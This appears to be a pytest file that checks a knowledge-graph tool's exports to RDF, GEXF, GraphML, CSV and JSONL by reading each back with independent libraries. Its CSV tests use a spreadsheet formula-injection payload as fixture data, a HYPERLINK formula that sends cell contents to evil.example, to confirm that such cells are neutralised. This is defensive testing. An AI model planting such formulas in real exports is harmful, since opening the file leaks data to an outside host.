"""Exports (kg/export/), each read back by an independent reader: rdflib, lxml RELAX NG, networkx, igraph, csv, json."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import networkx as nx
import pytest
from graph_fixtures import HOSTILE_NAME, any_store, fill, fill_hostile, make_result, news_store, write_document  # noqa: F401
from lxml import etree
from rdflib import Dataset, Graph, Literal
from rdflib.namespace import XSD

from kg.errors import KGError
from kg.export import FORMATS, export, xml_safe
from kg.export.gexf import GEXF_NS, VIZ_NS
from kg.analysis.network import entity_graph, read_facts
from kg.store.graph_store import GraphStore
from kg.export.html import colour_of
from kg.export.tables import FORMULA_STARTS, safe_cell

GEXF_SCHEMA = Path(__file__).parent / "data" / "gexf-1.3" / "gexf.rng"
NS = {"g": GEXF_NS, "viz": VIZ_NS}


@pytest.fixture(scope="module")
def gexf_schema():
    return etree.RelaxNG(file=str(GEXF_SCHEMA))


@pytest.fixture
def hostile_store():
    with GraphStore("memory") as store:
        yield fill_hostile(store)


def plain(term):
    """RDF 1.1 strings one way: Oxigraph types them xsd:string, rdflib leaves them untyped."""
    return Literal(str(term)) if isinstance(term, Literal) and term.datatype == XSD.string else term


def _quads(dataset: Dataset) -> set:
    return {(s, p, plain(o), getattr(g, "identifier", g)) for s, p, o, g in dataset.quads() if g is not None}


def store_quads(store) -> set:
    return _quads(store.dataset)


def parsed_quads(path: Path, rdf_format: str) -> set:
    back = Dataset()
    back.parse(path, format=rdf_format)
    return _quads(back)


# -- RDF ------------------------------------------------------------------------------


@pytest.mark.parametrize(("fmt", "rdf_format"), [("trig", "trig"), ("nquads", "nquads"), ("jsonld", "json-ld")])
def test_dataset_formats_keep_every_quad_and_named_graph(any_store, tmp_path, fmt, rdf_format):
    path = tmp_path / f"graph.{fmt}"
    assert export(any_store, fmt, path) == [path]
    back = parsed_quads(path, rdf_format)
    assert back == store_quads(any_store)
    assert len({g for *_, g in back}) == 3  # two documents and the shared entities graph


def test_turtle_merges_every_graph(any_store, tmp_path):
    path = tmp_path / "graph.ttl"
    export(any_store, "turtle", path)
    back = Graph().parse(path, format="turtle")
    assert {(s, p, plain(o)) for s, p, o in back} == {(s, p, o) for s, p, o, _ in store_quads(any_store)}
    assert "@prefix kg: <https://w3id.org/kg-news/ontology#>" in path.read_text()


@pytest.mark.parametrize(
    ("fmt", "rdf_format"), [("turtle", "turtle"), ("trig", "trig"), ("nquads", "nquads"), ("jsonld", "json-ld")]
)
def test_hostile_strings_survive_every_rdf_format(hostile_store, tmp_path, fmt, rdf_format):
    path = tmp_path / f"hostile.{fmt}"
    export(hostile_store, fmt, path)
    back = parsed_quads(path, rdf_format) if fmt != "turtle" else set(Graph().parse(path, format="turtle"))
    assert HOSTILE_NAME in {str(q[2]) for q in back}


# -- GEXF -----------------------------------------------------------------------------


def test_gexf_is_valid_gexf_1_3(any_store, tmp_path, gexf_schema):
    path = tmp_path / "graph.gexf"
    assert export(any_store, "gexf", path) == [path]
    doc = etree.parse(str(path))
    assert gexf_schema.validate(doc), gexf_schema.error_log
    root = doc.getroot()
    assert root.tag == f"{{{GEXF_NS}}}gexf" and root.get("version") == "1.3"
    graph = root.find("g:graph", NS)
    assert (graph.get("mode"), graph.get("timeformat"), graph.get("defaultedgetype")) == ("dynamic", "date", "directed")


def test_gexf_nodes_carry_class_colour_degree_size_position_and_start_date(news_store, tmp_path):
    path = export(news_store, "gexf", tmp_path / "graph.gexf")[0]
    nodes = {n.get("label"): n for n in etree.parse(str(path)).iterfind(".//g:node", NS)}
    assert len(nodes) == 10
    zelensky, london = nodes["Volodymyr Zelensky"], nodes["London"]
    colour = zelensky.find("viz:color", NS)
    assert "#{:02x}{:02x}{:02x}".format(*(int(colour.get(c)) for c in "rgb")) == colour_of("Person")
    assert float(zelensky.find("viz:size", NS).get("value")) > float(london.find("viz:size", NS).get("value"))
    assert zelensky.find("viz:position", NS) is not None
    assert (zelensky.get("start"), london.get("start")) == ("2024-07-19", "2024-07-19")
    assert nodes["Storm Shadow"].get("start") == "2024-09-02"


def test_gexf_edges_are_labelled_with_predicates_and_weighted(news_store, tmp_path):
    path = export(news_store, "gexf", tmp_path / "graph.gexf")[0]
    doc = etree.parse(str(path))
    titles = {a.get("id"): a.get("title") for a in doc.iterfind(".//g:attributes[@class='edge']/g:attribute", NS)}
    edges = {(e.get("label"), e.get("weight"), e.get("start")): e for e in doc.iterfind(".//g:edge", NS)}
    assert len(edges) == 8
    thanked = edges[("thanked", "2", "2024-07-19")]
    assert thanked.get("kind") == "thanked"
    values = {titles[v.get("for")]: v.get("value") for v in thanked.iterfind("g:attvalues/g:attvalue", NS)}
    assert values["sentence"] == "Zelensky thanked the UK for its support."
    assert values["last_date"] == "2024-09-02"


def test_gexf_takes_projection_filters(news_store, tmp_path):
    path = export(news_store, "gexf", tmp_path / "people.gexf", types=["Person"])[0]
    assert sorted(n.get("label") for n in etree.parse(str(path)).iterfind(".//g:node", NS)) == [
        "François Hollande", "Keir Starmer", "Volodymyr Zelensky",
    ]  # fmt: skip


def test_gexf_of_undated_documents_is_static(tmp_path, gexf_schema):
    from graph_fixtures import make_result, write_document

    with GraphStore("memory") as store:
        met = ("starmer", "metWith", "zelensky", 0)
        write_document(store, make_result("undated", "No date", None, ["Keir Starmer met Volodymyr Zelensky."], [met]))
        doc = etree.parse(str(export(store, "gexf", tmp_path / "static.gexf")[0]))
    assert gexf_schema.validate(doc), gexf_schema.error_log
    assert doc.find("g:graph", NS).get("mode") == "static"
    assert doc.find(".//g:node", NS).get("start") is None


def test_hostile_strings_give_valid_gexf(hostile_store, tmp_path, gexf_schema):
    doc = etree.parse(str(export(hostile_store, "gexf", tmp_path / "hostile.gexf")[0]))
    assert gexf_schema.validate(doc), gexf_schema.error_log
    assert {n.get("label") for n in doc.iterfind(".//g:node", NS)} == {
        'Ben "The <Rock>" & O\'Neil',  # the control character is gone, the rest kept
        "Acme </script><!-- ]]> \\ Ltd",
    }


# -- GraphML ----------------------------------------------------------------------------


def test_graphml_reads_back_in_networkx(any_store, tmp_path):
    path = export(any_store, "graphml", tmp_path / "graph.graphml")[0]
    back = nx.read_graphml(path)
    original = entity_graph(any_store, multi=True)
    assert set(back.nodes) == set(original.nodes) and back.number_of_edges() == original.number_of_edges()
    assert back.nodes[next(iter(original))]["label"] == original.nodes[next(iter(original))]["label"]
    weights = sorted(d["weight"] for *_, d in back.edges(data=True))
    assert weights == [1, 1, 1, 1, 1, 1, 1, 2]


def test_graphml_reads_back_in_igraph(news_store, tmp_path):
    igraph = pytest.importorskip("igraph", reason="python-igraph is optional: pip install python-igraph")
    path = export(news_store, "graphml", tmp_path / "graph.graphml")[0]
    g = igraph.Graph.Read_GraphML(str(path))
    assert (g.vcount(), g.ecount(), g.is_directed()) == (10, 8, True)
    assert sorted(g.es["predicate"]) == sorted(d["predicate"] for *_, d in entity_graph(news_store).edges(data=True))
    assert "Volodymyr Zelensky" in g.vs["label"]


def test_hostile_strings_give_valid_graphml(hostile_store, tmp_path):
    back = nx.read_graphml(export(hostile_store, "graphml", tmp_path / "hostile.graphml")[0])
    (edge,) = back.edges(data=True)
    assert edge[2]["sentence"] == xml_safe(read_facts(hostile_store)[0].sentence)


# -- CSV and JSON lines -----------------------------------------------------------------


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_is_laid_out_for_gephi(news_store, tmp_path):
    nodes_path, edges_path = export(news_store, "csv", tmp_path / "tables")
    assert (nodes_path.name, edges_path.name) == ("nodes.csv", "edges.csv")
    nodes, edges = read_csv(nodes_path), read_csv(edges_path)
    assert list(nodes[0])[:3] == ["Id", "Label", "Kind"]
    assert list(edges[0])[:5] == ["Source", "Target", "Type", "Label", "Weight"]
    assert len(nodes) == 10 and len(edges) == 8
    assert {e["Type"] for e in edges} == {"Directed"}
    ids = {n["Id"] for n in nodes}
    assert all(e["Source"] in ids and e["Target"] in ids for e in edges)
    thanked = next(e for e in edges if e["Label"] == "thanked")
    assert (thanked["Weight"], thanked["Sentence"]) == ("2", "Zelensky thanked the UK for its support.")


def test_csv_beside_a_named_file(news_store, tmp_path):
    written = export(news_store, "csv", tmp_path / "graph.csv")
    assert [p.name for p in written] == ["graph-nodes.csv", "graph-edges.csv"]


def test_hostile_strings_round_trip_through_csv(hostile_store, tmp_path):
    nodes_path, edges_path = export(hostile_store, "csv", tmp_path)
    assert HOSTILE_NAME in {n["Label"] for n in read_csv(nodes_path)}
    (edge,) = read_csv(edges_path)
    assert edge["Sentence"] == read_facts(hostile_store)[0].sentence


FORMULA_ENTITIES = {
    "ben": ("Person", '=HYPERLINK("http://evil.example/?x="&A1,"Ben")', ()),
    "acme": ("Organization", "@SUM(1+1)", ()),
}
FORMULA_SENTENCE = '-2+3 =HYPERLINK("http://evil.example/?x="&A1,"Ben") joined @SUM(1+1).'


@pytest.fixture
def formula_store():
    """A one-fact graph whose names and sentence begin with characters a spreadsheet runs as formulas."""
    result = make_result("formula", "+cmd", None, [FORMULA_SENTENCE], [("ben", "employedBy", "acme", 0)], FORMULA_ENTITIES)
    with GraphStore("memory") as store:
        write_document(store, result)
        yield store


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_beginning_with_a_formula_character_gets_an_apostrophe(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(f"a{start}1") == f"a{start}1"


def test_csv_cells_are_neutralised_and_raw_keeps_them(formula_store, tmp_path):
    nodes_path, edges_path = export(formula_store, "csv", tmp_path / "safe")
    labels = {n["Label"] for n in read_csv(nodes_path)}
    assert labels == {"'" + FORMULA_ENTITIES["ben"][1], "'@SUM(1+1)"}
    (edge,) = read_csv(edges_path)
    assert edge["Sentence"] == "'" + FORMULA_SENTENCE
    assert edge["Confidence"] == "0.9"  # numbers unchanged
    every_cell = [c for row in csv.reader(nodes_path.open()) for c in row] + [c for row in csv.reader(edges_path.open()) for c in row]
    assert not [c for c in every_cell if c.startswith(FORMULA_STARTS)]
    raw_nodes, raw_edges = export(formula_store, "csv", tmp_path / "raw", raw=True)
    assert {n["Label"] for n in read_csv(raw_nodes)} == {FORMULA_ENTITIES["ben"][1], "@SUM(1+1)"}
    assert read_csv(raw_edges)[0]["Sentence"] == FORMULA_SENTENCE


def test_jsonl_has_one_fact_a_line_with_sentence_and_document(any_store, tmp_path):
    path = export(any_store, "jsonl", tmp_path / "facts.jsonl")[0]
    lines = path.read_text(encoding="utf-8").splitlines()
    facts = [json.loads(line) for line in lines]
    assert len(facts) == 11  # every statement, open relations included
    first = facts[0]
    assert [first[k] for k in ("subject_label", "predicate", "object_label")] == ["Volodymyr Zelensky", "metWith", "Keir Starmer"]
    assert first["sentence"] == "Volodymyr Zelensky met Keir Starmer in London."
    assert first["document"] == "https://w3id.org/kg-news/doc/downing-street"
    assert {"date", "confidence", "rule", "open", "statement"} <= set(first)


def test_jsonl_lines_survive_splitlines_with_hostile_text(hostile_store, tmp_path):
    path = export(hostile_store, "jsonl", tmp_path / "facts.jsonl")[0]
    (line,) = path.read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["subject_label"] == HOSTILE_NAME


# -- the registry ---------------------------------------------------------------------------


def test_every_format_is_exported(news_store, tmp_path):
    for fmt in FORMATS:
        for path in export(news_store, fmt, tmp_path / f"out-{fmt}"):
            assert path.stat().st_size > 0, fmt


def test_unwritable_target_says_what_to_check(news_store, tmp_path):
    with pytest.raises(KGError, match="check the folder exists and is writable"):
        export(news_store, "turtle", tmp_path / "missing" / "graph.ttl")


def test_kg_export_raw_writes_csv_cells_as_they_are_and_is_for_csv_only(tmp_path):
    from typer.testing import CliRunner

    from kg.cli import app

    store = tmp_path / "store"
    result = make_result("formula", "+cmd", None, [FORMULA_SENTENCE], [("ben", "employedBy", "acme", 0)], FORMULA_ENTITIES)
    with GraphStore(store) as gs:
        write_document(gs, result)
    runner = CliRunner()
    safe = runner.invoke(app, ["export", "-f", "csv", "-o", str(tmp_path / "safe"), "--store", str(store)])
    raw = runner.invoke(app, ["export", "-f", "csv", "--raw", "-o", str(tmp_path / "raw"), "--store", str(store)])
    assert safe.exit_code == 0 and raw.exit_code == 0, safe.output + raw.output
    sentence = {p.parent.name: read_csv(p)[0]["Sentence"] for p in tmp_path.glob("*/edges.csv")}
    assert sentence == {"safe": "'" + FORMULA_SENTENCE, "raw": FORMULA_SENTENCE}
    wrong = runner.invoke(app, ["export", "-f", "trig", "--raw", "-o", str(tmp_path / "g.trig"), "--store", str(store)])
    assert wrong.exit_code == 2 and "--raw is for csv" in wrong.output
